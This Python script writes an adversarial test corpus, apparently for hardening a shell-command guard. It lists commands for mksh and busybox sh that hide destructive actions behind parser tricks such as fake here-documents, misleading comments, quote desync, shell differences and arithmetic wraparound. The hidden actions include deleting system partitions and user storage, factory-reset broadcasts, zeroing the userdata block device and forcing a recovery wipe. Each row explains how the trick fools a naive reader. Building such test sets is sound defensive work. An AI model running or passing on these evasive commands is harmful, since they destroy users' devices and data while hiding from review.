#!/usr/bin/env python3
"""Writes corpus.jsonl (round 5, attacker A: the shell language, mksh R59 / busybox 1.35 sh).

Kept as Python data so that no command text ever passes through a host shell.
Each row: family, cmd, note, and shells + shells_why where a line is proven in one shell only.
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
MK = ["mksh"]
BB = ["busybox"]

BB_WHY_MKSH_READS = ("busybox only: mksh (the shell the guard models) reads this differently and does no harm; "
                     "busybox sh is on many devices and runs it as described")

ROWS = [
    # ------------------------------------------------------------ fake-heredoc: `<<` that is not a here-document
    ("fake-heredoc",
     "sort <\\<END 2>/dev/null\npm list packages | cut -d: -f2 | while read p; do pm clear \"$p\"; done\nEND",
     "`<\\<END` is NOT a here-document: the backslash quotes the second `<`, so this is `sort < '<END'` (a "
     "redirection from a file named `<END`, which fails). The next line, which a reader that looks for `<<WORD` "
     "takes as the body of sort's input, is a command: it clears every package listed on the device", None, None),
    ("fake-heredoc",
     "cat <''<EOF 2>/dev/null\ncmd testharness enable\nEOF",
     "`<''<EOF` is two redirections, `< ''` and `< EOF` (the empty quotes split the operator), not `<<EOF`: cat "
     "fails on the empty file name and the 'body' line `cmd testharness enable` runs as a command", None, None),
    ("fake-heredoc",
     "echo start # see notes <<EOF\nrm -rf /data/app\nEOF",
     "the `<<EOF` sits in a COMMENT, so no here-document starts: the line a heredoc-aware reader skips as the "
     "body is a command deleting /data/app (every installed APK); `EOF` is then just a command not found",
     None, None),
    ("fake-heredoc",
     "echo ${NOTE:-<<EOF}\nam broadcast -a android.intent.action.MASTER_CLEAR\nEOF",
     "inside `${NOTE:-...}` the characters `<<EOF` are literal text of the default word, not a here-document "
     "operator: echo prints `<<EOF` and the next line, which looks like a heredoc body, sends MASTER_CLEAR "
     "(factory reset)", None, None),
    ("fake-heredoc",
     "cat <<<EOF >/dev/null\nrm -rf /data/misc\nEOF",
     "`<<<EOF` is a mksh HERE-STRING (the word `EOF` on stdin), not a here-document with delimiter `<EOF` or "
     "`EOF`: nothing swallows the following lines, so `rm -rf /data/misc` runs", MK,
     "mksh only: busybox 1.35 sh has no here-strings and rejects `<<<` as a syntax error"),

    # ------------------------------------------------------------ heredoc-end: the body ends where the reader does not expect
    ("heredoc-end",
     "cat <<$'EOF'\nnotes\nEOF\nrm -rf /system_ext\n$'EOF'",
     "the delimiter word `$'EOF'` is quote-removed to `EOF` (both shells): the body ends at the first `EOF` line "
     "and `rm -rf /system_ext` runs. A reader that takes the delimiter literally waits for the line `$'EOF'` "
     "and treats the rm as body text", None, None),
    ("heredoc-end",
     "cat <<$'\\x45OF'\nnotes\nEOF\necho --wipe_data > /cache/recovery/command\n\\x45OF",
     "the delimiter `$'\\x45OF'` is decoded by the shell to `EOF` (\\x45 is E), so the body ends at `EOF` and "
     "the next line writes --wipe_data into the recovery command file; the last line `\\x45OF` (a failing "
     "command) looks like the delimiter to a reader that does not decode $'...'", None, None),
    ("heredoc-end",
     "cat <<EOF\nnotes\nEO\\\nF\nrm -rf /product\nEOF",
     "in an UNQUOTED here-document mksh joins a backslash-newline before it compares a line with the "
     "delimiter: `EO\\` + `F` is the line `EOF`, which ends the body, so `rm -rf /product` is a command. A "
     "reader comparing raw lines ends the body at the final `EOF`", MK,
     "mksh only: busybox compares raw lines, so the body runs to the last EOF and nothing is deleted"),
    ("heredoc-end",
     "cat <<EOF 2>/dev/null\n$(: '\nEOF\nls /data/data | xargs -n1 pm clear\n')\nEOF",
     "mksh ends the here-document at the first `EOF` line even though it sits inside an open `$(: '` in the "
     "body: the next line clears every app found in /data/data. A reader that tracks the command "
     "substitution and its quote sees `EOF` and the clear loop as quoted text inside `$(: '...')`", MK,
     "mksh only: busybox keeps reading the substitution and ends the body at the last EOF"),
    ("heredoc-end",
     "echo \"$(cat <<EOF)\"\necho --wipe_data > /cache/recovery/command\nEOF",
     "a here-document opened inside a one-line `$( )`: busybox gives it an empty body (the substitution ended on "
     "its line), then runs the following 'body' line as a command, which writes the recovery command file",
     BB, "busybox only: mksh reports the here-document unclosed and runs nothing (it is what a mksh reader sees)"),
    ("heredoc-end",
     "echo `cat <<EOF`\npm remove-user 10\nEOF",
     "the same with backquotes: busybox ends the here-document with the backquoted command, so "
     "`pm remove-user 10` after it is a command, not the body of cat's input", BB,
     "busybox only: mksh reports the here-document unclosed and runs nothing"),

    # ------------------------------------------------------------ not-comment: `#` that does not start a comment
    ("not-comment",
     "echo cleanup\\ #; rm -rf /vendor",
     "`\\ ` is an escaped space INSIDE the word, so `#` is not at the start of a word and starts no comment: the "
     "word is `cleanup #`, then `;` and `rm -rf /vendor`. A reader that sees ` #` as a comment ignores the rm",
     None, None),
    ("not-comment",
     "echo $(date +%s)#; pm remove-user 10",
     "`#` right after a command substitution is part of the same word, not a comment: `pm remove-user 10` runs",
     None, None),
    ("not-comment",
     "echo resetting network settings\\\n#; am broadcast -a android.intent.action.MASTER_CLEAR",
     "the second LINE starts with `#`, but the backslash-newline before it joins it to the first line, so `#` "
     "is in the middle of the word `settings#`: the MASTER_CLEAR broadcast runs. A reader that drops lines "
     "starting with `#` as comments never sees it", None, None),

    # ------------------------------------------------------------ desync: quote characters in places where they quote nothing
    ("desync",
     "cat <<EOF\ndon't worry, nothing runs\nEOF\nrm -rf /data/system # that's all",
     "the apostrophe in `don't` is here-document text and quotes nothing; the one in `that's` is in a comment. "
     "A reader that lexes quotes without knowing here-document bodies sees `'t worry ... # that'` as ONE "
     "single-quoted string containing the rm", None, None),
    ("desync",
     "echo \"it's only a test\"; rm -rf /vendor; echo \"that's all\"",
     "an apostrophe inside double quotes is a plain character: a reader that pairs single quotes without "
     "tracking double quotes sees `'s only a test\"; rm -rf /vendor; echo \"that'` as quoted text", None, None),
    ("desync",
     "echo \"${X:-it's}\"; rm -rf /product; echo \"${Y:-that's}\"",
     "inside `\"${X:-...}\"` an apostrophe is literal (both shells): the rm between the two expansions runs. A "
     "reader that treats `'` in a ${...} word as a quote opener pairs the two apostrophes around the rm",
     None, None),
    ("desync",
     "alias log='echo $('\nlog rm -rf /vendor )",
     "the alias value leaves a COMMAND SUBSTITUTION open: `log rm -rf /vendor )` becomes `echo $(rm -rf /vendor )`, "
     "so what looks like arguments of a logging command is run", None, None),

    # ------------------------------------------------------------ not-dead: code that looks unreachable
    ("not-dead",
     "echo stop | exit 0; rm -rf /vendor",
     "`exit` in a pipeline exits only the pipeline's subshell (both shells): the shell goes on to the rm. A reader "
     "that treats what follows `exit` as dead code skips it", None, None),
    ("not-dead",
     "set -e\n[ -f /data/local/tmp/.approved ] && echo approved\npm list packages -3 | cut -d: -f2 | xargs -n1 pm uninstall",
     "`set -e` does not stop the shell when a command fails on the left of `&&`: without the approval file the "
     "script goes on and uninstalls every third-party package listed on the device", None, None),
    ("not-dead",
     "sh -i -c 'set -n; am broadcast -a android.intent.action.MASTER_CLEAR' </dev/null 2>/dev/null",
     "`set -n` (noexec, 'only check the syntax') is IGNORED by an interactive mksh: with -i the MASTER_CLEAR "
     "broadcast is sent", MK, "mksh only: busybox honours -n even when interactive"),

    # ------------------------------------------------------------ leftover: the variable after a read loop
    ("leftover",
     "printf '/data/local/tmp/a\\n/vendor' | { while read -r d; do echo \"$d\"; done; rm -rf \"$d\"; }",
     "the last line has no newline: `read` fails on it, so the loop body never sees it, yet `read` has already "
     "stored it in d. After the loop d is `/vendor`, not empty", None, None),
    ("leftover",
     "printf 'NOTHING\\nMASTER_CLEAR' | { while read -r a; do :; done; am broadcast -a android.intent.action.$a; }",
     "the same: after the loop `a` holds the unterminated last line `MASTER_CLEAR`; the broadcast is a factory "
     "reset", None, None),

    # ------------------------------------------------------------ bb-parse: busybox sh parses it unlike mksh
    ("bb-parse",
     "[[ \"$(getprop ro.build.version.sdk)\" > /data/system/packages.xml ]] && echo newer",
     "in mksh `[[ a > b ]]` is a string comparison; busybox sh has no `[[` grammar, so `>` is a REDIRECTION that "
     "truncates packages.xml (every installed app forgotten at boot)", BB, BB_WHY_MKSH_READS),
    ("bb-parse",
     "[[ $1 > /dev/block/by-name/boot ]] || echo older",
     "the same `[[ ... > ... ]]`: a comparison in mksh, a redirection in busybox that truncates the boot "
     "partition", BB, BB_WHY_MKSH_READS),
    ("bb-parse",
     "alias ls=echo\nls() { rm -rf /vendor; }\necho done",
     "busybox alias-expands the NAME of a function definition: `ls() {...}` defines a function `echo`, and the "
     "innocent `echo done` runs rm -rf /vendor. mksh defines `ls`, which is never called", BB, BB_WHY_MKSH_READS),
    ("bb-parse",
     "alias status=echo\nstatus() { am broadcast -a android.intent.action.FACTORY_RESET -p android; }\necho checking",
     "the same alias-on-the-definition-name: `echo checking` calls the function that sends FACTORY_RESET", BB,
     BB_WHY_MKSH_READS),
    ("bb-parse",
     "((cmd testharness enable))",
     "mksh reads `((...))` as an ARITHMETIC command (a failing expression, nothing runs); busybox has no `((`, "
     "so it is two nested subshells running `cmd testharness enable` (wipes accounts and data)", BB,
     BB_WHY_MKSH_READS),
    ("bb-parse",
     "rm {--help,} -rf /vendor",
     "mksh brace-expands `{--help,}` to `--help`, so rm only prints its help; busybox has no brace expansion, "
     "the word stays `{--help,}` (a missing file) and rm -rf /vendor deletes the vendor partition", BB,
     BB_WHY_MKSH_READS),

    # ------------------------------------------------------------ bb-builtin: busybox builtins that differ
    ("bb-builtin",
     "dd if=/dev/zero of=/dev/block/mmcblk0p$(kill -l PIPE) count=1",
     "busybox `kill -l NAME` prints the signal's NUMBER: SIGPIPE is 13, so this writes mmcblk0p13 (userdata)",
     BB, "busybox only: mksh's `kill -l` takes numbers only ('bad number'), so it writes mmcblk0p (not a device here)"),
    ("bb-builtin",
     "RANDOM=7; rm -rf /storage/emulated/$((RANDOM%8))/*",
     "assigning RANDOM SEEDS busybox's generator: after RANDOM=7 the next value is always 17008, and 17008 % 8 "
     "is 0, so this is /storage/emulated/0/* (all of the user's storage). A reader takes it as a random user",
     BB, "busybox only: mksh does not reseed deterministically"),
    ("bb-builtin",
     "T=/product; typeset T=/data/local/tmp/x 2>/dev/null; rm -rf \"$T\"",
     "busybox has no `typeset`: the reassignment is a command not found, T keeps /product and the partition is "
     "deleted. mksh (the shell a reader models) reassigns T to a scratch path", BB, BB_WHY_MKSH_READS),
    ("bb-builtin",
     "X=/vendor.bak; rm -rf \"${X:0:-4}\"",
     "busybox accepts a NEGATIVE substring length: `${X:0:-4}` drops the last 4 characters, giving /vendor",
     BB, "busybox only: mksh does not take a negative length (the expansion fails, nothing is deleted)"),

    # ------------------------------------------------------------ sh-args: options of the shell and of set
    ("sh-args",
     "sh -c -e 'rm -rf /vendor'",
     "with `sh -c`, the command string is the first OPERAND, not the word after -c: `-e` is an option and "
     "`'rm -rf /vendor'` is the script. A reader that takes the argument after -c as the script reads `-e`",
     None, None),
    ("sh-args",
     "set -o errexit /product; rm -rf \"$1\"",
     "`set` takes options AND operands: `-o errexit` sets an option and `/product` becomes $1", None, None),

    # ------------------------------------------------------------ arith: integer semantics
    ("arith",
     "dd if=/dev/zero of=/dev/block/mmcblk0p$((4294967296+13)) count=1",
     "mksh arithmetic is 32-bit and wraps: 4294967296+13 is 13, so this writes mmcblk0p13 (userdata). A 64-bit "
     "reader computes 4294967309 (no such device)", MK, "mksh only: busybox uses 64-bit arithmetic"),
    ("arith",
     "rm -rf /storage/emulated/$((65536*65536))/*",
     "65536*65536 wraps to 0 in mksh's 32-bit arithmetic: all of /storage/emulated/0 is deleted", MK,
     "mksh only: busybox computes 4294967296"),
    ("arith",
     "rm -rf /data/user/$(( -1 / 2 ))/*",
     "shell division truncates toward zero: -1/2 is 0, not -1 (a floor-dividing reader gets /data/user/-1): "
     "every app's data under /data/user/0 is deleted", None, None),

    # ------------------------------------------------------------ indirect: the variable's NAME is computed
    ("indirect",
     "k=A; export \"$k=MASTER_CLEAR\"; am broadcast -a android.intent.action.$A",
     "export takes an assignment whose name comes from a variable: `export \"$k=...\"` sets A, which a reader "
     "tracking literal `A=` assignments never sees", None, None),
    ("indirect",
     "n=T; read -r \"$n\" <<'EOF'\n/data/app\nEOF\nrm -rf \"$T\"",
     "`read` into a variable whose name is itself a variable's value: T is /data/app", None, None),
    ("indirect",
     "n=P; : $(( $n = 13 )); dd if=/dev/zero of=/dev/block/mmcblk0p$P count=1",
     "an arithmetic assignment to a computed name: `$(( $n = 13 ))` sets P to 13 (userdata)", None, None),
    ("indirect",
     "S=/data/local/tmp/old; n=S; unset \"$n\"; rm -rf /product$S",
     "`unset \"$n\"` removes S, so the path is /product rather than /product/data/local/tmp/old", None, None),

    # ------------------------------------------------------------ paramlen: lengths of (special) parameters
    ("paramlen",
     "rm -rf /storage/emulated/${#E}/*",
     "`${#E}` is the LENGTH of the unset E, 0: all of the user's storage", None, None),
    ("paramlen",
     "dd if=/dev/zero of=/dev/block/mmcblk0p1${##} count=1",
     "`${##}` is the length of `$#` (`0`), i.e. 1, not a pattern removal: mmcblk0p11 (vbmeta) is overwritten",
     None, None),

    # ------------------------------------------------------------ substr-neg: `${X: -N}` is not `${X:-N}`
    ("substr-neg",
     "A=android.intent.action.DO_NOT_FACTORY_RESET; am broadcast -a \"${A: -13}\" -p android",
     "with a space, `${A: -13}` is the LAST 13 characters (`FACTORY_RESET`), not the `:-` default operator "
     "(which would keep the whole harmless-looking action): the broadcast is a factory reset", None, None),
    ("substr-neg",
     "F=/data/local/tmp/cache/recovery/command; echo --wipe_data > \"${F: -23}\"",
     "`${F: -23}` keeps the last 23 characters: /cache/recovery/command, not the scratch copy", None, None),

    # ------------------------------------------------------------ patvar: a pattern held in a variable is active
    ("patvar",
     "P='/*/'; X=/data/local/vendor; rm -rf /${X##$P}",
     "an UNQUOTED `$P` in `${X##$P}` is a pattern, not literal text: `/*/` strips the longest leading "
     "directory part and leaves `vendor`", None, None),
    ("patvar",
     "P='*[a-z]'; D=/dev/block/mmcblk0p13x; dd if=/dev/zero of=${D%$P} count=1",
     "`${D%$P}` removes the shortest suffix matching `*[a-z]` (the `x`): mmcblk0p13, userdata", None, None),

    ("patvar",
     "A='/data/user_de/0/*'; rm -rf $A",
     "the glob is in the variable's VALUE: assigned quoted (no expansion), it is expanded when `$A` is used "
     "unquoted, so rm gets every app's device-encrypted data directory", None, None),

    # ------------------------------------------------------------ specvar: variables with special meaning
    ("specvar",
     "SECONDS=13; dd if=/dev/zero of=/dev/block/mmcblk0p$SECONDS count=1",
     "assigning SECONDS sets its base: read right after, it is 13, userdata", None, None),
    ("specvar",
     "(exit 13) | true; dd if=/dev/zero of=/dev/block/mmcblk0p${PIPESTATUS[0]} count=1",
     "mksh's PIPESTATUS array holds the status of every element of the last pipeline: 13", MK,
     "mksh only: busybox has no PIPESTATUS (bad substitution)"),
    ("specvar",
     "set -A a; a[13]=x; dd if=/dev/zero of=/dev/block/mmcblk0p${!a[*]} count=1",
     "mksh `${!a[*]}` is the list of an array's INDICES, here 13, not its values", MK,
     "mksh only: busybox has no arrays"),

    # ------------------------------------------------------------ builtin-opt: builtin options that cut data
    ("builtin-opt",
     "read -d . A <<'EOF'\nMASTER_CLEAR.later\nEOF\nam broadcast -a android.intent.action.$A",
     "`read -d .` stops at the first `.`: A is MASTER_CLEAR", None, None),
    # ------------------------------------------------------------ single techniques
    ("option",
     "set -o physical 2>/dev/null; cd /sdcard/.. && rm -rf 0/*",
     "mksh `set -o physical` makes cd resolve symlinks: /sdcard/.. is /storage/emulated, so `0/*` is all of the "
     "user's storage. A reader with the usual logical cd takes /sdcard/.. as / and `0/*` as a missing path",
     MK, "mksh only: busybox has no `physical` option, stays logical and deletes nothing"),
    ("quoting",
     "am broadcast -a \"android.intent.action.MASTER_\\\nCLEAR\"",
     "inside DOUBLE quotes a backslash-newline is removed: the action is MASTER_CLEAR (a reader that keeps "
     "quoted text verbatim sees a broken action name)", None, None),
    ("quoting",
     "echo x > $\"/dev/block/by-name/misc\"",
     "mksh reads `$\"...\"` as a double-quoted string (the `$` vanishes): the write goes to the misc partition",
     MK, "mksh only: busybox keeps the `$` and fails on `$/dev/...`"),
    ("tilde",
     "rm -rf ${D:-~/data/data}/*",
     "a tilde inside the default word of `${D:-...}` is expanded (HOME is / on a device): //data/data/*, every "
     "app's data", None, None),
    ("tilde",
     "export T=~/product; rm -rf \"$T\"",
     "in an argument of `export` (a declaration utility) a tilde after `=` is expanded as in an assignment: T "
     "is //product. A reader treating export's arguments as ordinary words keeps `~/product` literal", None, None),
    ("heredoc-func",
     "reset() { while read -r p; do pm clear \"$p\"; done; } <<'EOF'\ncom.example.app\ncom.example.other\ncom.whatsapp\ncom.spotify.music\nEOF\nreset",
     "a here-document attached to a function DEFINITION is its stdin at every call: `reset` clears four "
     "packages, although the definition looks like it feeds nothing", None, None),
    ("ifs-arith",
     "IFS=1; rm -rf /storage/emulated/$((10))/*",
     "the result of an unquoted `$((...))` is field-split like any expansion: with IFS=1, `10` splits and the "
     "word becomes `/storage/emulated/` and `0/*`, so rm deletes the whole /storage/emulated", None, None),
]


def main() -> None:
    out = []
    seen = set()
    for fam, cmd, note, shells, why in ROWS:
        assert cmd not in seen, cmd
        seen.add(cmd)
        d = {"family": fam, "cmd": cmd, "note": note}
        if shells:
            d["shells"] = shells
            d["shells_why"] = why
        out.append(json.dumps(d, ensure_ascii=False))
    (HERE / "corpus.jsonl").write_text("\n".join(out) + "\n")
    print(len(out), "lines")


if __name__ == "__main__":
    main()
